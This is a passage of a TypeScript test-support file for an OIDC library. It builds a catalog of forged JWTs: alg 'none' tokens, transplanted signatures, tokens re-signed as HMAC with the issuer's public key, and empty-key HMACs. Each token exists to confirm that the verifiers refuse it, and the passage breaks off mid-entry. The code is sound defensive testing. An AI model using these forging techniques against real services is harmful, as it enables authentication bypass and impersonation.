// The JWT attack matrix's catalog: every way an attacker can dress up a JWT — algorithm tricks, key
// tricks, header tricks, claim types and encodings, sizes, replay, token-type confusion — written
// once, framework-free, and run against every kind of JWT oidc-kit accepts (jwt-attacks.test.ts).
//
// An attack gets an AttackContext — what a valid token of the type under test looks like (its claims
// and header), the issuer's real signing keys and published JWKS, the algorithm(s) the verifier
// accepts, the client secret, and a server of the attacker's — and builds one or more hostile tokens
// (variants). A harness per token type presents each variant to the library and checks the outcome
// users rely on. Attacks never talk to the network and never look at the library: they only know
// the standards. Each attack says, for every token type, whether it applies and if not, why not.
import { constants, createHash, createHmac, createPublicKey, generateKeyPairSync, KeyObject, randomUUID, sign } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { CompactEncrypt, importJWK, type JWK } from 'jose';
import { mergeMembers } from '../support/merge-members.ts';
import { der, oid } from '../support/der.ts';
import { STRUCTURE_ATTACKS } from './jwt-structure-attacks.ts';

/**
 * The kinds of JWT a relying party or resource server accepts, the rows of the attack matrix.
 *
 * @example
 * ```ts
 * for (const type of TOKEN_TYPES) console.log(type, JWT_ATTACKS.filter((a) => appliesTo(a, type)).length);
 * ```
 */
export const TOKEN_TYPES = ['id_token', 'id_token_refresh', 'logout_token', 'userinfo', 'access_token'] as const;

/**
 * One of {@link TOKEN_TYPES}.
 *
 * @example
 * ```ts
 * const type: TokenType = 'logout_token';
 * ```
 */
export type TokenType = (typeof TOKEN_TYPES)[number];

/**
 * The `typ` header each kind of token carries when an issuer sets one (RFC 9068 §2.1 `at+jwt`,
 * Back-Channel Logout §2.4 `logout+jwt`); ID tokens and signed UserInfo have none (OIDC Core
 * defines none; oidc-provider sends none).
 *
 * @example
 * ```ts
 * TOKEN_TYP.access_token; // 'at+jwt'
 * TOKEN_TYP.id_token;     // undefined
 * ```
 */
export const TOKEN_TYP: Readonly<Record<TokenType, string | undefined>> = {
  id_token: undefined,
  id_token_refresh: undefined,
  logout_token: 'logout+jwt',
  userinfo: undefined,
  access_token: 'at+jwt',
};

/** The event a logout token carries (Back-Channel Logout §2.4). */
const LOGOUT_EVENT = 'http://schemas.openid.net/event/backchannel-logout';

/**
 * A signing key: its private half (a `KeyObject`, or an extractable `CryptoKey`: cross-algorithm
 * attacks re-use the key under other algorithms, which WebCrypto binds to one), its key id and
 * algorithm, and the public JWK a JWKS publishes for it.
 *
 * @example
 * ```ts
 * const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
 * const key: AttackKey = { kid: 'rs-1', alg: 'RS256', privateKey, publicJwk: { ...publicKey.export({ format: 'jwk' }), kid: 'rs-1', alg: 'RS256', use: 'sig' } };
 * ```
 */
export interface AttackKey {
  readonly kid: string;
  readonly alg: string;
  readonly privateKey: KeyObject | CryptoKey;
  readonly publicJwk: JWK;
}

/**
 * A JSON Web Key Set.
 *
 * @example
 * ```ts
 * const jwks: KeySet = { keys: [key.publicJwk] };
 * ```
 */
export interface KeySet {
  readonly keys: readonly JWK[];
}

/**
 * Who the valid tokens of a context are about: the user, and their provider session when there is one.
 *
 * @example
 * ```ts
 * const subject: AttackSubject = { sub: 'alice', sid: 'a6b0…' };
 * ```
 */
export interface AttackSubject {
  readonly sub: string;
  readonly sid?: string;
}

/**
 * What a harness knows about one verifier of one token type, from which {@link createAttackContext}
 * makes the {@link AttackContext} attacks are built from.
 *
 * @example
 * ```ts
 * const ctx = createAttackContext({
 *   tokenType: 'logout_token', issuer: op.issuer, clientId: 'demo-client', clientSecret: CLIENT_SECRET,
 *   audience: 'https://api.example', subject: { sub: 'victim', sid }, alg: 'RS256', allowedAlgs: ['RS256'],
 *   signingKey: rs256, publishedKeys: [rs256, es256], jwks, clockTolerance: 60,
 *   requiredClaims: ['iss', 'aud', 'iat', 'exp', 'jti', 'events', ['sid', 'sub']], attackerUrl: attacker.url,
 * });
 * ```
 */
export interface AttackContextInit {
  readonly tokenType: TokenType;
  /** The issuer's identifier, exactly as the verifier is configured with it. */
  readonly issuer: string;
  /** The relying party's client id: the audience of ID tokens, logout tokens and UserInfo. */
  readonly clientId: string;
  /** The client secret, when the client has one (it is an HMAC key the client knows). */
  readonly clientSecret: string | undefined;
  /** The audience of access tokens (the API's identifier). */
  readonly audience: string;
  readonly subject: AttackSubject;
  /** The algorithm valid tokens are signed with (`signingKey.alg`). */
  readonly alg: string;
  /** Every algorithm the verifier accepts. */
  readonly allowedAlgs: readonly string[];
  /** The issuer's key valid tokens are signed with. */
  readonly signingKey: AttackKey;
  /** Every key the issuer publishes, `signingKey` included. */
  readonly publishedKeys: readonly AttackKey[];
  /** The issuer's JWKS as its `jwks_uri` serves it. */
  readonly jwks: KeySet;
  /** The verifier's clock tolerance, in seconds. */
  readonly clockTolerance: number;
  /** Claims a valid token must carry; an inner array is a group of which at least one is needed. */
  readonly requiredClaims: ReadonlyArray<string | readonly string[]>;
  /** Base URL of a server the attacker runs (no trailing slash); the verifier must never contact it. */
  readonly attackerUrl: string;
  /** The claims of a valid token (fresh per call). Default: `standardClaims(tokenType, …)`. */
  readonly claims?: () => Record<string, unknown>;
}

/**
 * Everything an attack is built from: the harness's {@link AttackContextInit} plus ways to make
 * valid and almost-valid tokens. `claims()` and `header()` are fresh per call (new `jti`, `iat` now).
 *
 * @example
 * ```ts
 * const valid = await ctx.mint();                                   // accepted by the verifier
 * const edited = await ctx.mint({ exp: nowSeconds() - 3600 });      // expired
 * const forged = ctx.sign({ alg: 'HS256', kid: ctx.signingKey.kid }, ctx.claims(), new Uint8Array(), 'HS256');
 * ```
 */
export interface AttackContext extends Omit<AttackContextInit, 'claims'> {
  /** The claims of a valid token of this type. */
  claims(): Record<string, unknown>;
  /** The protected header of a valid token: `alg`, `kid` and `typ` as the issuer sends them. */
  header(): Record<string, unknown>;
  /** A valid token of another type from the same issuer about the same subject, and its `typ`. */
  sibling(type: TokenType): { typ: string | undefined; claims: Record<string, unknown> };
  /**
   * A token signed by `key` (default: the issuer's signing key) under the key's own algorithm, with
   * `claims` merged over `claims()` and `header` over `{ alg: key.alg, kid: key.kid, typ }`; a
   * member set to undefined is removed. The signature is always computed with `key.alg`, so a header
   * may lie about its algorithm.
   */
  mint(claims?: Record<string, unknown>, header?: Record<string, unknown>, key?: AttackKey): Promise<string>;
  /**
   * A compact JWS over exactly the given header and payload — objects are JSON-encoded, strings are
   * taken as raw JSON text, bytes as the raw payload — signed with `key` (an asymmetric key or HMAC
   * secret bytes) under `alg`, whatever the header says.
   */
  sign(header: Record<string, unknown> | string, payload: Record<string, unknown> | string | Uint8Array, key: AttackKey | KeyObject | Uint8Array, alg: string): string;
}

/**
 * One hostile token (a variant of an attack) and how to present it.
 *
 * @example
 * ```ts
 * const variant: AttackToken = { label: 'jku to the attacker', token, lures: [`${ctx.attackerUrl}/jwks`] };
 * ```
 */
export interface AttackToken {
  /** What this variant is, for failure messages. */
  readonly label: string;
  readonly token: string;
  /**
   * The key set the issuer's `jwks_uri` must serve while this token is presented, to a verifier that
   * has not cached keys yet (a fresh instance): the attack is about what the JWKS contains.
   */
  readonly jwks?: KeySet;
  /**
   * Present the token twice: the first presentation is legitimate and must be accepted; the second
   * is the attack and must be refused without undoing or repeating the first's effect.
   */
  readonly presentTwice?: boolean;
  /** URLs the token tries to make the verifier fetch; none may be requested. */
  readonly lures?: readonly string[];
  /**
   * Refused by the rules every JWT obeys (structure, JSON, header members, claim values): the
   * verifier must ask the provider for nothing — no discovery, no key set — before refusing it.
   */
  readonly preflight?: boolean;
}

/**
 * The token types an attack does not apply to, each with one sentence saying why; it applies to
 * every other type.
 *
 * @example
 * ```ts
 * const notApplicable: NotApplicable = { userinfo: 'UserInfo is fetched by the RP itself; nobody presents it twice.' };
 * ```
 */
export type NotApplicable = Readonly<Partial<Record<TokenType, string>>>;

/**
 * Whether an attack applies to a token type (it gives no reason why not).
 *
 * @example
 * ```ts
 * const attacks = JWT_ATTACKS.filter((a) => appliesTo(a, 'logout_token'));
 * ```
 */
export function appliesTo(attack: JwtAttack, type: TokenType): boolean {
  return attack.notApplicable?.[type] === undefined;
}

/**
 * One attack of the matrix. `build` returns the hostile tokens (variants) for a context; every one
 * must be refused — except for the control ATK-00, whose tokens must be accepted (`expect`). An
 * attack may return no variant for a context it has nothing to try against (e.g. "a published key
 * of an algorithm outside the allow-list" when the allow-list takes every published key); a harness
 * checks that each attack yields at least one variant across its contexts.
 *
 * @example
 * ```ts
 * const attack = JWT_ATTACKS.find((a) => a.id === 'ATK-01')!;
 * if (appliesTo(attack, 'logout_token')) for (const v of await attack.build(ctx)) await postLogoutToken(v.token);
 * ```
 */
export interface JwtAttack {
  /** 'ATK-00' … */
  readonly id: string;
  /** Reads well in "<title> is refused". */
  readonly title: string;
  /** The rule the verifier must follow, and where it comes from. */
  readonly rule: string;
  readonly expect: 'refused' | 'accepted';
  /** The token types it does not apply to, and why; see {@link appliesTo}. */
  readonly notApplicable?: NotApplicable;
  build(ctx: AttackContext): Promise<readonly AttackToken[]>;
}

/**
 * The claims a valid token of each type carries, as a typical issuer sends them (oidc-provider's
 * shapes): ID token (OIDC Core §2), logout token (Back-Channel Logout §2.4), signed UserInfo
 * (OIDC Core §5.3.2: `iss`, `aud`, `sub`; oidc-provider adds `iat` and `exp`), JWT access token (RFC 9068 §2.2).
 *
 * @example
 * ```ts
 * standardClaims('logout_token', { issuer, clientId: 'demo-client', audience: 'https://api.example', subject: { sub: 'alice', sid } });
 * ```
 */
export function standardClaims(type: TokenType, about: { issuer: string; clientId: string; audience: string; subject: AttackSubject }): Record<string, unknown> {
  const now = nowSeconds();
  const { issuer: iss, clientId, audience, subject } = about;
  const sid = subject.sid === undefined ? {} : { sid: subject.sid };
  switch (type) {
    case 'id_token':
      return { iss, sub: subject.sub, aud: clientId, azp: clientId, iat: now, exp: now + 300, auth_time: now - 5, nonce: randomUUID(), at_hash: b64u(randomBytes16()), ...sid };
    case 'id_token_refresh':
      // OIDC Core §12.2: like the login's, without a nonce (SHOULD NOT), iat the new issue time.
      return { iss, sub: subject.sub, aud: clientId, azp: clientId, iat: now, exp: now + 300, auth_time: now - 5, ...sid };
    case 'logout_token':
      return { iss, aud: clientId, iat: now, exp: now + 120, jti: randomUUID(), events: { [LOGOUT_EVENT]: {} }, sub: subject.sub, ...sid };
    case 'userinfo':
      // oidc-provider signs UserInfo like an ID token: iat, and exp = the access token's.
      return { iss, aud: clientId, sub: subject.sub, iat: now, exp: now + 300, email: `${subject.sub}@example.com`, email_verified: true, name: 'Victim' };
    case 'access_token':
      return { iss, sub: subject.sub, aud: audience, client_id: clientId, iat: now, exp: now + 300, jti: randomUUID(), scope: 'read' };
  }
}

/**
 * Makes the {@link AttackContext} attacks are built from.
 *
 * @example
 * ```ts
 * const ctx = createAttackContext({ tokenType: 'access_token', issuer: lab.issuer, … });
 * for (const attack of JWT_ATTACKS) for (const variant of await attack.build(ctx)) await present(variant);
 * ```
 */
export function createAttackContext(init: AttackContextInit): AttackContext {
  const about = { issuer: init.issuer, clientId: init.clientId, audience: init.audience, subject: init.subject };
  const claims = init.claims ?? (() => standardClaims(init.tokenType, about));
  const typ = TOKEN_TYP[init.tokenType];
  const ctx: AttackContext = {
    tokenType: init.tokenType,
    issuer: init.issuer,
    clientId: init.clientId,
    clientSecret: init.clientSecret,
    audience: init.audience,
    subject: init.subject,
    alg: init.alg,
    allowedAlgs: init.allowedAlgs,
    signingKey: init.signingKey,
    publishedKeys: init.publishedKeys,
    jwks: init.jwks,
    clockTolerance: init.clockTolerance,
    requiredClaims: init.requiredClaims,
    attackerUrl: init.attackerUrl,
    claims,
    header: () => withoutUndefined({ alg: init.signingKey.alg, kid: init.signingKey.kid, typ }),
    sibling: (type) => ({ typ: TOKEN_TYP[type], claims: type === init.tokenType ? claims() : standardClaims(type, about) }),
    mint: (over = {}, header = {}, key = init.signingKey) =>
      Promise.resolve(ctx.sign(mergeMembers(withoutUndefined({ alg: key.alg, kid: key.kid, typ }), header), mergeMembers(claims(), over), key, key.alg)),
    sign: (header, payload, key, alg) => compactJws(header, payload, key, alg),
  };
  return ctx;
}

/**
 * The attacker's own material, made once per process: an RS256 and an ES256 key pair (kids
 * `attacker-rs` and `attacker-es`), their JWKS, and a self-signed X.509 certificate of the RSA key.
 * A harness serves it from the attacker's server (so that a verifier following `jku`, `x5u` or a
 * foreign issuer's discovery would find a key that verifies the hostile token).
 *
 * @example
 * ```ts
 * const { jwks, certificatePem } = attackerMaterial();
 * attackerServer.serve('/jwks', jwks);
 * attackerServer.serve('/cert.pem', certificatePem);
 * ```
 */
export function attackerMaterial(): { rsa: AttackKey; ec: AttackKey; jwks: KeySet; certificateDer: Buffer; certificatePem: string } {
  if (attacker !== undefined) return attacker;
  const rsa = makeKey('RS256', 'attacker-rs');
  const ec = makeKey('ES256', 'attacker-es');
  const certificateDer = selfSignedCertificate(rsa.privateKey as KeyObject, 'attacker.example');
  const body = certificateDer.toString('base64').replace(/.{1,64}/g, '$&\n');
  attacker = { rsa, ec, jwks: { keys: [rsa.publicJwk, ec.publicJwk] }, certificateDer, certificatePem: `-----BEGIN CERTIFICATE-----\n${body}-----END CERTIFICATE-----\n` };
  return attacker;
}
let attacker: ReturnType<typeof attackerMaterial> | undefined;

// ---------------------------------------------------------------------------------------------
// Encoding and signing helpers (nothing here validates: hostile input is the point).

function nowSeconds(): number {
  return Math.floor(Date.now() / 1000);
}

function randomBytes16(): Uint8Array {
  return crypto.getRandomValues(new Uint8Array(16));
}

function b64u(data: string | Uint8Array): string {
  return Buffer.from(data).toString('base64url');
}

function segment(value: Record<string, unknown> | string | Uint8Array): string {
  if (typeof value === 'string') return b64u(value);
  if (value instanceof Uint8Array) return b64u(value);
  return b64u(JSON.stringify(value));
}

function withoutUndefined(value: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(Object.entries(value).filter(([, v]) => v !== undefined));
}

/** JSON text of `value` with raw `"name":value` members appended (duplicates, out-of-range numbers). */
function jsonWith(value: Record<string, unknown>, extra: string): string {
  const text = JSON.stringify(value);
  return text === '{}' ? `{${extra}}` : `${text.slice(0, -1)},${extra}}`;
}

function keyObject(key: KeyObject | CryptoKey): KeyObject {
  if (key instanceof KeyObject) return key;
  if (!key.extractable) throw new Error('jwt-attacks: attack keys must be KeyObjects or extractable CryptoKeys (attacks re-use them under other algorithms)');
  return KeyObject.from(key);
}

function signature(alg: string, key: AttackKey | KeyObject | Uint8Array, input: string): string {
  const data = Buffer.from(input);
  if (/^HS(256|384|512)$/.test(alg)) {
    if (!(key instanceof Uint8Array)) throw new Error(`jwt-attacks: ${alg} needs secret bytes`);
    return createHmac(`sha${alg.slice(2)}`, key).update(data).digest('base64url');
  }
  if (key instanceof Uint8Array) throw new Error(`jwt-attacks: ${alg} needs an asymmetric key`);
  const k = key instanceof KeyObject ? key : keyObject(key.privateKey);
  const hash = `sha${alg.slice(2)}`;
  if (/^RS(256|384|512)$/.test(alg)) return sign(hash, data, k).toString('base64url');
  if (/^PS(256|384|512)$/.test(alg)) {
    return sign(hash, data, { key: k, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: Number(alg.slice(2)) / 8 }).toString('base64url');
  }
  if (/^ES(256|384|512)$/.test(alg)) return sign(hash, data, { key: k, dsaEncoding: 'ieee-p1363' }).toString('base64url');
  if (alg === 'EdDSA' || alg === 'Ed25519') return sign(null, data, k).toString('base64url');
  throw new Error(`jwt-attacks: cannot sign with ${alg}`);
}

function compactJws(header: Record<string, unknown> | string, payload: Record<string, unknown> | string | Uint8Array, key: AttackKey | KeyObject | Uint8Array, alg: string): string {
  const input = `${segment(header)}.${segment(payload)}`;
  return `${input}.${signature(alg, key, input)}`;
}

/** An unsecured token: `header.payload.` (or with the given signature segment). */
function unsigned(header: Record<string, unknown> | string, payload: Record<string, unknown> | string, sig = ''): string {
  return `${segment(header)}.${segment(payload)}.${sig}`;
}

function makeKey(alg: 'RS256' | 'ES256', kid: string): AttackKey {
  const { privateKey, publicKey } = alg === 'RS256'
    ? generateKeyPairSync('rsa', { modulusLength: 2048 })
    : generateKeyPairSync('ec', { namedCurve: 'P-256' });
  return { kid, alg, privateKey, publicJwk: { ...publicKey.export({ format: 'jwk' }), kid, alg, use: 'sig' } };
}

/** The public key of an attack key, as a KeyObject. */
function publicKeyOf(key: AttackKey): KeyObject {
  const { kty, n, e, crv, x, y } = key.publicJwk;
  return createPublicKey({ key: withoutUndefined({ kty, n, e, crv, x, y }), format: 'jwk' });
}

function rsaKeyOf(ctx: AttackContext): AttackKey {
  const key = ctx.signingKey.publicJwk.kty === 'RSA' ? ctx.signingKey : ctx.publishedKeys.find((k) => k.publicJwk.kty === 'RSA');
  if (key === undefined) throw new Error('jwt-attacks: the issuer publishes no RSA key');
  return key;
}

function asList(aud: unknown): unknown[] {
  return Array.isArray(aud) ? aud : aud === undefined ? [] : [aud];
}

function selfSignedCertificate(privateKey: KeyObject, commonName: string): Buffer {
  const sha256WithRsa = der(0x30, oid('1.2.840.113549.1.1.11'), der(0x05));
  const name = der(0x30, der(0x31, der(0x30, oid('2.5.4.3'), der(0x0c, Buffer.from(commonName)))));
  const validity = der(0x30, der(0x17, Buffer.from('250101000000Z')), der(0x17, Buffer.from('491231235959Z')));
  const spki = createPublicKey(privateKey).export({ type: 'spki', format: 'der' });
  const tbs = der(0x30, der(0xa0, der(0x02, Buffer.from([2]))), der(0x02, Buffer.from([0x01, 0x23, 0x45])), sha256WithRsa, name, validity, name, spki);
  const sig = sign('sha256', tbs, privateKey);
  return der(0x30, tbs, sha256WithRsa, der(0x03, Buffer.from([0]), sig));
}

/** Deep nesting: `depth` arrays inside each other. */
function nested(depth: number): string {
  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
}

/** A valid token re-spelled with its last character's spare bits set: the same bytes, another string. */
function respell(part: string): string | undefined {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const last = part.at(-1);
  for (const candidate of alphabet) {
    const other = part.slice(0, -1) + candidate;
    if (candidate !== last && Buffer.from(other, 'base64url').equals(Buffer.from(part, 'base64url'))) return other;
  }
  return undefined;
}

function parts(token: string): [string, string, string] {
  const [h = '', p = '', s = ''] = token.split('.');
  return [h, p, s];
}

// ---------------------------------------------------------------------------------------------
// Applicability shorthands.

const NOT_PRESENTED_AS_BEARER = 'ID tokens, logout tokens and UserInfo responses are not presented by a client as bearer credentials, so a proof-of-possession binding has no meaning for them.';

/**
 * Why a signed UserInfo answer cannot be told from a refreshed ID token: nothing in the
 * specifications separates them (ATK-29 at refresh).
 */
const REFRESHED_OR_USERINFO = 'A refreshed ID token comes from the token endpoint over TLS and has no nonce; a signed UserInfo answer of the same provider about the same user (iss, sub, aud, iat, exp) carries nothing an ID token may not, and OIDC Core §12.2 requires no more of the new ID token than the login\'s iss, sub, aud and, when present, auth_time: no rule tells them apart, and only the provider itself could send one in place of the other.';

/** The cross-type confusion attacks: a real token of `source` presented as another type. */
function confusion(id: string, source: TokenType, name: string): JwtAttack {
  return {
    id,
    title: `${name} (its real typ and claims) presented in place of this type`,
    rule: 'RFC 8725 §3.11/§3.12 (explicit typing, cross-JWT confusion); RFC 9068 §4; Back-Channel Logout §2.6 (events, no nonce); OIDC Core §3.1.3.7.',
    expect: 'refused',
    notApplicable: {
      [source]: `Presenting ${name} where ${name} is expected is the valid case (ATK-00).`,
      ...(source === 'userinfo' ? { id_token_refresh: REFRESHED_OR_USERINFO } : {}),
    },
    build(ctx) {
      const sibling = ctx.sibling(source);
      const own = ctx.claims();
      const header = withoutUndefined({ alg: ctx.signingKey.alg, kid: ctx.signingKey.kid, typ: sibling.typ });
      // Dressed up for this verifier, as when its audience is the login client's id (Flask-OIDC's
      // OIDC_RESOURCE_CHECK_AUD): this verifier's audience added, and any time claims it needs.
      const dressed: Record<string, unknown> = { ...sibling.claims, aud: [...new Set([...asList(sibling.claims['aud']), ...asList(own['aud'])])] };
      for (const claim of ['iat', 'exp']) if (dressed[claim] === undefined && own[claim] !== undefined) dressed[claim] = own[claim];
      const out: AttackToken[] = [
        { label: `${source} as issued`, token: ctx.sign(header, sibling.claims, ctx.signingKey, ctx.signingKey.alg) },
        { label: `${source} with this verifier's audience added`, token: ctx.sign(header, dressed, ctx.signingKey, ctx.signingKey.alg) },
      ];
      // An issuer that sets no typ on this kind (Keycloak, Auth0 and Entra ID set none or "JWT" on access tokens).
      if (sibling.typ !== undefined) out.push({ label: `${source} with the audience added and no typ`, token: ctx.sign(mergeMembers(header, { typ: undefined }), dressed, ctx.signingKey, ctx.signingKey.alg) });
      return Promise.resolve(out);
    },
  };
}

/** Variants of one claim replaced by each of `values` (raw JSON text), in validly signed tokens. */
function rawClaimVariants(ctx: AttackContext, claim: string, values: readonly string[], extra: Record<string, unknown> = {}): AttackToken[] {
  return values.map((value) => {
    const claims = mergeMembers(mergeMembers(ctx.claims(), extra), { [claim]: undefined });
    return { label: `${claim}: ${value}`, token: ctx.sign(ctx.header(), jsonWith(claims, `${JSON.stringify(claim)}:${value}`), ctx.signingKey, ctx.signingKey.alg) };
  });
}

// ---------------------------------------------------------------------------------------------
// The catalog.

/**
 * The attack matrix's catalog: ATK-00 (the control: a valid token, accepted) and one entry per
 * attack, each with the token types it applies to (and why not, for the others).
 *
 * @example
 * ```ts
 * for (const attack of JWT_ATTACKS.filter((a) => appliesTo(a, 'access_token'))) {
 *   test(`${attack.id} (access_token): ${attack.title} is refused`, async () => { … });
 * }
 * ```
 */
export const JWT_ATTACKS: readonly JwtAttack[] = [
  {
    id: 'ATK-00',
    title: 'a valid token',
    rule: 'The control: a token as the issuer sends it, one that expired within the clock tolerance, and a token checked against a freshly fetched (or alg-less) JWKS are accepted: the harness can tell.',
    expect: 'accepted',
    async build(ctx) {
      const out: AttackToken[] = [{ label: 'a fresh token, as the issuer sends it', token: await ctx.mint() }];
      if (typeof ctx.claims()['exp'] === 'number' && ctx.clockTolerance >= 30) {
        const ago = ctx.clockTolerance - 15;
        out.push({ label: `expired ${ago} s ago, within the ${ctx.clockTolerance} s tolerance`, token: await ctx.mint({ iat: nowSeconds() - 300, exp: nowSeconds() - ago }) });
      }
      // The controls of the variants that bring their own JWKS (ATK-07, ATK-11): the same path accepts a valid token.
      out.push({ label: 'a fresh token, to a verifier that has just fetched the JWKS', token: await ctx.mint(), jwks: ctx.jwks });
      const bare: KeySet = { keys: ctx.jwks.keys.map((k) => withoutUndefined({ ...k, alg: undefined, use: undefined, key_ops: undefined })) };
      out.push({ label: 'a fresh token, the JWKS keys without alg and use', token: await ctx.mint(), jwks: bare });
      return out;
    },
  },
  {
    id: 'ATK-01',
    title: 'an unsigned token (alg "none" in any spelling)',
    rule: 'RFC 8725 §3.1, §3.2: never accept "none"; OIDC Core §3.1.3.7 step 6–7; RFC 9068 §4.',
    expect: 'refused',
    build(ctx) {
      const out = ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({ label: `alg ${JSON.stringify(alg)}`, token: unsigned(mergeMembers(ctx.header(), { alg }), ctx.claims()) }));
      out.push({ label: 'alg "none", no kid', token: unsigned(mergeMembers(ctx.header(), { alg: 'none', kid: undefined }), ctx.claims()) });
      return Promise.resolve(out);
    },
  },
  {
    id: 'ATK-02',
    title: 'alg "none" with a real signature attached',
    rule: 'RFC 8725 §3.1: "none" is refused whatever follows the second dot.',
    expect: 'refused',
    async build(ctx) {
      const [, , sig] = parts(await ctx.mint());
      return [
        { label: 'alg none, the signature of a valid token', token: unsigned(mergeMembers(ctx.header(), { alg: 'none' }), ctx.claims(), sig) },
        { label: 'alg None, the signature of a valid token', token: unsigned(mergeMembers(ctx.header(), { alg: 'None' }), ctx.claims(), sig) },
      ];
    },
  },
  {
    id: 'ATK-03',
    title: 'an empty signature',
    rule: 'RFC 7515 §5.2: the signature must verify; an empty one never does.',
    expect: 'refused',
    async build(ctx) {
      const [h, p] = parts(await ctx.mint());
      return [{ label: 'header.payload. (alg kept)', token: `${h}.${p}.` }];
    },
  },
  {
    id: 'ATK-04',
    title: 'a token whose signature segment is stripped',
    rule: 'RFC 7515 §7.1: a compact JWS has three segments.',
    expect: 'refused',
    async build(ctx) {
      const [h, p] = parts(await ctx.mint());
      return [
        { label: 'header.payload (two segments)', token: `${h}.${p}` },
        { label: 'alg none, header.payload (two segments)', token: `${segment(mergeMembers(ctx.header(), { alg: 'none' }))}.${p}` },
      ];
    },
  },
  {
    id: 'ATK-05',
    title: 'chosen claims carrying the signature of another valid token',
    rule: 'RFC 7515 §5.2: the signature covers this header and payload.',
    expect: 'refused',
    async build(ctx) {
      const [h, p] = parts(await ctx.mint({ sub: 'admin' }, {}, attackerMaterial().rsa));
      const [, , sig] = parts(await ctx.mint());
      const out: AttackToken[] = [{ label: 'signature of a valid token of the same key', token: `${segment(ctx.header())}.${p}.${sig}` }, { label: 'header and payload of a forged token, signature of a valid one', token: `${h}.${p}.${sig}` }];
      const other = ctx.publishedKeys.find((k) => k.kid !== ctx.signingKey.kid);
      if (other !== undefined) out.push({ label: `signature of a token signed by ${other.kid}`, token: `${segment(ctx.header())}.${p}.${parts(await ctx.mint({}, {}, other))[2]}` });
      return out;
    },
  },
  {
    id: 'ATK-06',
    title: 'a valid token whose claims were edited after signing',
    rule: 'RFC 7515 §5.2: any change to the payload breaks the signature.',
    expect: 'refused',
    async build(ctx) {
      const [h, , s] = parts(await ctx.mint());
      const claims = ctx.claims();
      const edits: Array<[string, Record<string, unknown>]> = [
        ['sub changed to "admin"', { sub: 'admin' }],
        ['exp pushed a year ahead', { exp: nowSeconds() + 365 * 86400 }],
        ['a claim added (roles: admin)', { roles: ['admin'] }],
      ];
      return edits.map(([label, over]) => ({ label, token: `${h}.${segment(mergeMembers(claims, over))}.${s}` }));
    },
  },
  {
    id: 'ATK-07',
    title: 'HS256 keyed with the issuer\'s RSA public key as PEM or DER (algorithm confusion)',
    rule: 'RFC 8725 §2.1, §3.1: the algorithm comes from the key and the allow-list, never from the token; an HMAC is not a signature by the issuer.',
    expect: 'refused',
    build(ctx) {
      const rsa = rsaKeyOf(ctx);
      const pub = publicKeyOf(rsa);
      const spki = pub.export({ type: 'spki', format: 'pem' });
      const pkcs1 = pub.export({ type: 'pkcs1', format: 'pem' });
      const secrets: Array<[string, Uint8Array]> = [
        ['SPKI PEM', Buffer.from(spki)],
        ['SPKI PEM without the final newline', Buffer.from(spki.toString().trim())],
        ['PKCS#1 PEM', Buffer.from(pkcs1)],
        ['SPKI DER', pub.export({ type: 'spki', format: 'der' })],
      ];
      const out: AttackToken[] = secrets.map(([label, secret]) => ({ label: `HS256, ${label}, kid of the RSA key`, token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: rsa.kid }), ctx.claims(), secret, 'HS256') }));
      out.push({ label: 'HS256, SPKI PEM, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), Buffer.from(spki), 'HS256') });
      // The dangerous case: a JWKS whose keys name no algorithm or use (many providers publish such keys).
      const bare: KeySet = { keys: ctx.jwks.keys.map((k) => withoutUndefined({ ...k, alg: undefined, use: undefined, key_ops: undefined })) };
      out.push({ label: 'HS256, SPKI PEM, kid of the RSA key, JWKS keys without alg and use', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: rsa.kid }), ctx.claims(), Buffer.from(spki), 'HS256'), jwks: bare });
      return Promise.resolve(out);
    },
  },
  {
    id: 'ATK-08',
    title: 'HS256 keyed with the issuer\'s public key in JWK form (algorithm confusion)',
    rule: 'RFC 8725 §2.1, §3.1: public key material is never an HMAC secret.',
    expect: 'refused',
    build(ctx) {
      const out: AttackToken[] = [];
      for (const key of ctx.publishedKeys) {
        const jwk = ctx.jwks.keys.find((k) => k.kid === key.kid) ?? key.publicJwk;
        out.push({ label: `HS256, the published JWK of ${key.kid} as JSON`, token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: key.kid }), ctx.claims(), Buffer.from(JSON.stringify(jwk)), 'HS256') });
        const material = jwk.n ?? jwk.x;
        if (material !== undefined) {
          out.push({ label: `HS256, the raw ${jwk.n === undefined ? 'x coordinate' : 'modulus'} of ${key.kid}`, token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: key.kid }), ctx.claims(), Buffer.from(material, 'base64url'), 'HS256') });
        }
      }
      out.push({ label: 'HS256, the whole JWKS as JSON', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256' }), ctx.claims(), Buffer.from(JSON.stringify(ctx.jwks)), 'HS256') });
      return Promise.resolve(out);
    },
  },
  {
    id: 'ATK-09',
    title: 'an HMAC with an empty key',
    rule: 'RFC 8725 §3.5: HMAC keys must have full entropy; RFC 7518 §3.2: a key at least as long as the hash.',
    expect: 'refused',
    build(ctx) {
      const empty = new Uint8Array(0);
      return Promise.resolve([
        { label: 'HS256, kid of the signing key', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256' }), ctx.claims(), empty, 'HS256') },
        { label: 'HS256, no kid', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS256', kid: undefined }), ctx.claims(), empty, 'HS256') },
        { label: 'HS384', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS384' }), ctx.claims(), empty, 'HS384') },
        { label: 'HS512', token: ctx.sign(mergeMembers(ctx.header(), { alg: 'HS512' }), ctx.claims(), empty, 'HS512') },
      ]);
    },
  },
  {
    id: 'ATK-10',
    title: 'an HMAC keyed with the client secret while an asymmetric algorithm is expected',
    rule: 'OIDC Core §10.1 / RFC 8725 §3.1: the client secret is known to the client (and to whoever stole it): it signs nothing the issuer vouches for unless HS* was registered.',
    expect: 'refused',
    build(ctx) {
